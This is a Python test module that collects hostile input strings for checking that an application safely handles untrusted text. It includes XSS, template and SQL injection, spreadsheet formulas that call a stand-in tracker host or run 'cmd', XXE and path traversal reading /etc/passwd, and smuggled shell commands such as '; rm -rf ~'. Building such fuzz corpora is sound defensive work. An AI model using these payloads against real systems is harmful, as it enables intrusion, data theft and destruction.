"""Texts that try to be more than text: what a stranger may write on a sign, into EXIF, or as a file's name.

Every attack that would run a script sets ``pwned``, so that one look at the page tells whether any did.
"""

from __future__ import annotations

_RUN = "window.pwned=1"

HTML = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}//",
    f"<script\x0c>{_RUN}</script\n>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<!--<script>{_RUN}</script>-->",
    f"--><script>{_RUN}</script><!--",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"]]><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'//",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>">',
    f"<iframe src=javascript:parent.{_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>Чернігів</a>",
    f"<a href=' java\tscript:{_RUN}'>x</a>",
    f"<form action=javascript:{_RUN}><button autofocus>x",
    '<meta http-equiv=refresh content="0;url=https://tracker.example/">',
    '<base href="https://tracker.example/">',
    '<link rel=stylesheet href="https://tracker.example/x.css">',
    '<img src="https://tracker.example/pixel.png">',
    "<style>@import 'https://tracker.example/x.css';</style>",
    '<p style="background:url(https://tracker.example/x)">',
    "<style>*{display:none}</style>",
    "</div></div></main></body></html>",
    "<plaintext>",
    "<!doctype html><html><head><title>another page</title>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"＜script＞{_RUN}＜/script＞",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f"` onclick=`{_RUN}",
)
SCRIPT = (
    f'";{_RUN};//',
    f"';{_RUN};//",
    f"\\';{_RUN};//",
    f"\u2028{_RUN}\u2029",
    f"\n{_RUN}\n",
    f"${{{_RUN}}}",
    f"`+({_RUN})+`",
    f"]}}}});{_RUN};({{",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    '{"__proto__": {"pwned": 1}}',
)
# fmt: off
TEMPLATES = (
    "{{7*7}}", "{% raw %}", "{% include '/etc/passwd' %}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{#", "#}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "%s%n%x", "{0.__class__}", "$[description]", "$[name]", "$(id)",
    "`id`",
)
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://tracker.example/?"&A1,"Ріпки")',
    '=WEBSERVICE("https://tracker.example/")', '=IMPORTXML("https://tracker.example/","//a")', "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '"=1+1', "';=1+1", ";=1+1", ",=1+1",
    "=DDE(\"cmd\";\"/C calc\")",
)
XML = (
    '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', "&e;", "&amp;amp;", "]]>",
    "<!--", "<NetworkLink><Link><href>https://tracker.example/</href></Link></NetworkLink>",
    "</description></Placemark>", "<xi:include href='file:///etc/passwd'/>", "\x00", "\x01\x02\x1f", "\ufffe\uffff",
    "\ud800", "a\udcffb",
)
TERMINAL = (
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;https://tracker.example/\x07link\x1b]8;;\x07", "\x1b[2J\x1b[H",
    "\x9b31m", "\x1bP$q\"p\x1b\\", "\x08\x08\x08ok", "\r\x1b[Kverified", "\x07", "\x7f",
)
UNICODE = (
    "\u202egpj.exe", "\u2066\u202eabc\u2069", "\u200f\u061cab", "a\u200bb\u200c\u200d", "\ufeffbom", "\U000e0041tag",
    "Z\u0351\u036b\u0343\u036a" * 40, "\u0430\u0440\u0440\u04cf\u0435", "🏴\u200d☠️", "ﷺ" * 20, "\u2028", "\u00ad",
    "ǅ", "İ", "ß",
)
PATHS = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows", "CON", "nul.txt",
    "file\x00.png", "~/.ssh/id_rsa", "-rf", "--help", "; rm -rf ~", "| cat /etc/passwd", "$HOME", "*", "?", "a" * 300,
)
SQL = (
    "'; DROP TABLE sites;--", '" OR 1=1 --', "Robert'); DELETE FROM cells;--", "\\", "'",
)
LONG = (
    "x" * 10_000, "Чернігів " * 1_200, "<b>" * 3_400, "\n" * 10_000, "\u0301" * 10_000, "=" * 10_000, "\x1b" * 10_000,
)
PLAIN = (
    "", " ", "null", "NaN", "-inf", "undefined", "true", "0", "1e309", "1" * 400,
)

# fmt: on

CORPUS = (*HTML, *SCRIPT, *TEMPLATES, *FORMULAS, *XML, *TERMINAL, *UNICODE, *PATHS, *SQL, *LONG, *PLAIN)
